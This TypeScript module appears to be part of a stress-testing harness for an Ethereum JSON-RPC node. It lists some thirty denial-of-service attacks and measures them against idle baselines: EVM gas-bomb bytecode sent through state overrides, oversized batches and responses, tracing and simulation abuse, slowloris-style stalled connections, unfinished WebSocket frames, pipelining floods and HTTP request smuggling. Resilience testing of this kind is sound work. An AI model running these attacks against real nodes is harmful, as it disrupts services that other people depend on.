// The attacks of a hostile client, one per row. Runs in the attacking process.
import { setImmediate as nextTurn, setTimeout as sleep } from 'node:timers/promises';
import { assemble } from '../support/assembler.js';
import { handshake, head, openMany, post, repeat, type Target } from './connection.js';
import {
  cutHeads,
  handshakeBody,
  manyMessages,
  messages,
  pipeline,
  pipelines,
  resets,
  smuggle,
  tinyChunks,
} from './streams.js';

export interface Attack {
  readonly name: string;
  readonly what: string;
  /** Runs until the target's signal is aborted. */
  readonly attack: (target: Target) => Promise<unknown>;
}

const POOL = '0x7000000000000000000000000000000000000010';
const BOMB = `0x${'b3'.repeat(20)}`;
/** Returns 4.9 MB of zeros, the most that the gas for memory allows. */
const LONG_RETURN = '0x624ac4006000f3';
const MIB = 1024 * 1024;

function call(method: string, ...params: unknown[]): string {
  return JSON.stringify({ jsonrpc: '2.0', id: 1, method, params });
}

function batch(count: number, one: string): string {
  return `[${Array.from({ length: count }, () => one).join()}]`;
}

function words(count: number): string[] {
  return Array.from({ length: count }, (_, i) => `0x${i.toString(16).padStart(64, '0')}`);
}

/** Repeats over so many connections at once. */
function everywhere(connections: number, body: (n: number) => string): Attack['attack'] {
  return (target) => Promise.all(Array.from({ length: connections }, () => repeat(target, body)));
}

const LONG_CALL = call('eth_call', { to: BOMB, gas: '0x2faf080' }, 'latest', { [BOMB]: { code: LONG_RETURN } });
const FEE_HISTORY = call(
  'eth_feeHistory',
  '0x80',
  'latest',
  Array.from({ length: 100 }, (_, i) => i),
);
const OLD_SLOTS = call('eth_getStorageValues', { [POOL]: words(1024) }, '0x1');
const OVERRIDES = Object.fromEntries(
  Array.from({ length: 1000 }, (_, i) => [`0x${i.toString(16).padStart(40, '0')}`, { balance: '0x1' }]),
);

/** Codes that run for as long as they may. */
const BOMBS: readonly string[] = [
  // Endless arithmetic.
  assemble('LABEL again; PUSH 3; PUSH 5; MUL; POP; REF again; JUMP'),
  // A thousand pairings of zeros in one call, repeatedly.
  assemble('LABEL again; PUSH 0; PUSH 0; PUSH 192000; PUSH 0; PUSH 8; GAS; STATICCALL; POP; REF again; JUMP'),
  // BLAKE2F with 40 million rounds.
  assemble(
    'PUSH 40000000; PUSH 224; SHL; PUSH 0; MSTORE',
    'LABEL again; PUSH 0; PUSH 0; PUSH 213; PUSH 0; PUSH 9; GAS; STATICCALL; POP; REF again; JUMP',
  ),
  // Transient storage, one slot after the other.
  assemble('PUSH 0; LABEL again; PUSH 1; ADD; DUP1; DUP1; TSTORE; REF again; JUMP'),
  // Creates empty contracts.
  assemble('LABEL again; PUSH 0; PUSH 0; PUSH 0; CREATE; POP; REF again; JUMP'),
];

function bomb(n: number): string {
  const data = `0x${Math.floor(Math.random() * 2 ** 32)
    .toString(16)
    .padStart(8, '0')}`;
  return call('eth_estimateGas', { to: BOMB, data }, 'latest', { [BOMB]: { code: BOMBS[n % BOMBS.length] } });
}

/** A bomb in code that no cache has seen: it starts with a unique number. */
function newBomb(n: number): string {
  const number = Math.floor(Math.random() * 2 ** 32);
  const code = assemble(`PUSH ${number}; POP; LABEL again; PUSH 3; PUSH 5; MUL; POP; REF again; JUMP`);
  return call('eth_estimateGas', { to: BOMB }, 'latest', { [BOMB]: { code, nonce: `0x${n.toString(16)}` } });
}

/** 200 calls in one request, each of which returns a megabyte. */
const CALL_MANY = call('eth_callMany', [{ transactions: Array.from({ length: 200 }, () => ({ to: BOMB })) }], null, {
  [BOMB]: { code: assemble(`PUSH ${MIB}; PUSH 0; RETURN`) },
});
/** The same, within the gas of one call and the size limit of a response. */
const CALL_MANY_FITTING = CALL_MANY.replaceAll(`{"to":"${BOMB}"},`, '').replace(
  `{"to":"${BOMB}"}`,
  Array.from({ length: 3 }, () => `{"to":"${BOMB}"}`).join(),
);

/**
 * Alternates between loops that run often enough to be compiled, and codes as long as a body; no cache has seen any of
 * them.
 */
function newCode(n: number): string {
  const code = n % 50 === 0 ? `${assemble(newNumber())}${'5b'.repeat(1_000_000)}` : newLoops();
  return call('eth_call', { to: BOMB }, 'latest', { [BOMB]: { code } });
}

function newLoops(): string {
  const loops = Array.from(
    { length: 200 },
    (_, i) => `PUSH 0; LABEL a${i}; ${newNumber()}; PUSH 1; ADD; DUP1; PUSH 600; GT; REF a${i}; JUMPI; POP`,
  );
  return assemble(...loops);
}

/** A call of code that no cache has seen. */
function newCall(...lines: readonly string[]): string {
  return call('eth_call', { to: BOMB }, 'latest', { [BOMB]: { code: assemble(newNumber(), ...lines) } });
}

/** Code of slow instructions: hashes of a megabyte without jumps, or init code of 49 KB repeatedly. */
function longInstructions(n: number): string {
  if (n % 2 === 0) return newCall(`PUSH ${MIB}; PUSH 0; KECCAK256; POP; `.repeat(118));
  return newCall('LABEL again; PUSH 0xc000; PUSH 0; PUSH 0; CREATE; POP; REF again; JUMP');
}

/** Code of 2.4 MB that runs straight through, or that is mostly PUSH data. */
function longCode(n: number): string {
  const code = n % 2 === 0 ? '5b'.repeat(2_400_000) : `00${'605b'.repeat(1_200_000)}`;
  return call('eth_call', { to: BOMB }, 'latest', { [BOMB]: { code: `${assemble(newNumber())}${code}` } });
}

/** Traces in which every step shows a megabyte. */
function memoryTrace(): string {
  const code = assemble(newNumber(), 'PUSH 0xfffff; MLOAD; PUSH 0; LABEL again; PUSH 1; ADD; REF again; JUMP');
  const options = { enableMemory: true, stateOverrides: { [BOMB]: { code } } };
  return call('debug_traceCall', { to: BOMB, gas: '0x2faf080' }, 'latest', options);
}

/** As many blocks as may be simulated at once. */
const SIMULATED = call(
  'eth_simulateV1',
  { blockStateCalls: Array.from({ length: 256 }, () => ({ calls: Array.from({ length: 7 }, () => ({ to: BOMB })) })) },
  'latest',
);

function newNumber(): string {
  return `PUSH ${Math.floor(Math.random() * 2 ** 32)}; POP`;
}

/** Connections that send `bytes` and then nothing, and that are reopened when they are closed. */
function stalled(connections: number, bytes: string): Attack['attack'] {
  return async (target) => {
    while (!target.signal.aborted) {
      const sockets = await openMany(target, connections);
      for (const socket of sockets) socket.write(bytes);
      const closed = (): boolean => sockets.every((socket) => socket.destroyed);
      while (!target.signal.aborted && !closed()) await sleep(50);
      for (const socket of sockets) socket.destroy();
    }
  };
}

/** Clients that request much and do not read it. */
async function slowReaders(target: Target): Promise<void> {
  const sockets = await openMany(target, 20);
  for (const socket of sockets) {
    socket.pause();
    for (let i = 0; i < 3; i++) socket.write(post(batch(2, LONG_CALL)));
  }
  while (!target.signal.aborted) await sleep(50);
  for (const socket of sockets) socket.destroy();
}

/** Clients that disconnect while their response is being sent. */
async function leavers(target: Target): Promise<void> {
  while (!target.signal.aborted) {
    const sockets = await openMany(target, 100);
    for (const socket of sockets) {
      socket.once('data', () => socket.destroy());
      socket.write(post(LONG_CALL));
    }
    await sleep(300);
    for (const socket of sockets) socket.destroy();
  }
}

/** WebSocket messages whose last byte never arrives. */
async function unfinishedMessages(target: Target): Promise<void> {
  const bytes = Math.floor(4.9 * MIB);
  const header = Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  header.writeUInt32BE(bytes, 6);
  const sockets = await openMany(target, 400);
  for (const socket of sockets) socket.write(handshake());
  await sleep(100);
  for (const socket of sockets) socket.write(header);
  const piece = Buffer.alloc(64 * 1024, 0x20);
  for (let sent = 0; sent < bytes - piece.length && !target.signal.aborted; sent += piece.length) {
    for (const socket of sockets) if (!socket.destroyed) socket.write(piece);
    await sleep(1);
  }
  while (!target.signal.aborted) await sleep(50);
  for (const socket of sockets) socket.destroy();
}

/** Uses up a processor and sends no requests. */
async function compute({ signal }: Target): Promise<void> {
  const memory = Buffer.alloc(16 * MIB);
  while (!signal.aborted) {
    memory.copyWithin(1, 0);
    await nextTurn();
  }
}

/** Baselines that the attacks are compared with. */
export const BASELINES = ['quiet', 'busy'];

export const ATTACKS: readonly Attack[] = [
  { name: 'quiet', what: 'nobody attacks', attack: ({ signal }) => sleep(2 ** 30, null, { signal }).catch(() => null) },
  { name: 'busy', what: 'the attacking process uses up a processor and sends nothing', attack: compute },
  {
    name: 'large-answers',
    what: 'batches of 990 equal calls of 4.9 MB',
    attack: everywhere(2, () => batch(990, LONG_CALL)),
  },
  {
    name: 'large-answer-each',
    what: '100 connections, an answer of 9.8 MB each',
    attack: everywhere(100, () => LONG_CALL),
  },
  {
    name: 'fee-history',
    what: 'batches of 1,000 fee histories of 128 blocks',
    attack: everywhere(2, () => batch(1000, FEE_HISTORY)),
  },
  {
    name: 'full-blocks',
    what: 'batches of 1,000 full blocks',
    attack: everywhere(2, (n) => batch(1000, call('eth_getBlockByNumber', `0x${(n % 3).toString(16)}`, true))),
  },
  {
    name: 'old-slots',
    what: 'batches of 64 times 1,024 slots at an old block',
    attack: everywhere(2, () => batch(64, OLD_SLOTS)),
  },
  {
    name: 'overrides',
    what: 'calls with 4,000 accounts overridden',
    attack: everywhere(4, () => call('eth_call', { to: POOL }, 'latest', OVERRIDES)),
  },
  { name: 'many-entries', what: 'batches of 330,000 entries', attack: everywhere(4, () => batch(330_000, '1')) },
  {
    name: 'large-bodies',
    what: 'calls with 2.4 MB of data',
    attack: everywhere(4, () => call('eth_call', { to: POOL, data: `0x${'00'.repeat(2_400_000)}` })),
  },
  { name: 'bombs', what: '64 connections with code that runs until its timeout', attack: everywhere(64, bomb) },
  { name: 'new-bombs', what: '64 connections with new such code each time', attack: everywhere(64, newBomb) },
  {
    name: 'call-many',
    what: '8 connections with 200 calls in one, of a megabyte each',
    attack: everywhere(8, (n) => (n % 2 === 0 ? CALL_MANY : CALL_MANY_FITTING)),
  },
  { name: 'kernel-memory', what: '8 connections with new code each time', attack: everywhere(8, newCode) },
  {
    name: 'long-instructions',
    what: '4 connections with long hashes and creations in new code each time',
    attack: everywhere(4, longInstructions),
  },
  { name: 'long-code', what: '4 connections with 2.4 MB of new code each time', attack: everywhere(4, longCode) },
  {
    name: 'memory-traces',
    what: '4 connections with traces of a megabyte a step',
    attack: everywhere(4, memoryTrace),
  },
  { name: 'simulations', what: '4 connections with 256 simulated blocks', attack: everywhere(4, () => SIMULATED) },
  { name: 'few-bombs', what: '2 connections with such code', attack: everywhere(2, bomb) },
  {
    name: 'partial-bodies',
    what: '2,050 connections with 95 bytes of a body',
    attack: stalled(2050, head(5_000_000) + ' '.repeat(95)),
  },
  {
    name: 'partial-heads',
    what: '2,050 connections with half a request head',
    attack: stalled(2050, 'POST / HTTP/1.1\r\nHost: a\r\n'),
  },
  { name: 'slow-readers', what: '20 clients that do not read 20 MB each', attack: slowReaders },
  { name: 'leavers', what: 'clients that leave in mid-answer', attack: leavers },
  { name: 'unfinished-messages', what: '400 WebSockets with 4.9 MB of a message', attack: unfinishedMessages },
  { name: 'pipeline', what: 'one connection with pipelined nonces', attack: pipeline },
  { name: 'messages', what: 'one WebSocket with a stream of nonces', attack: messages },
  { name: 'tiny-chunks', what: 'bodies in chunks of one byte', attack: tinyChunks },
  { name: 'pipelines', what: '50 connections with 600 requests in one write', attack: pipelines(50, 600) },
  { name: 'many-pipelines', what: '1,500 connections with 700 requests in one write', attack: pipelines(1500, 700) },
  { name: 'many-messages', what: '200 WebSockets with 256 messages in one write', attack: manyMessages },
  { name: 'smuggle', what: 'requests that another parser could read as two', attack: smuggle },
  { name: 'cut-heads', what: 'request heads of 4,096 bytes, one of them cut by each read', attack: cutHeads },
  {
    name: 'handshake-body',
    what: 'handshakes that announce a body, followed by WebSocket frames',
    attack: handshakeBody,
  },
  { name: 'resets', what: '800 clients that pipeline, read nothing and reset', attack: resets },
];
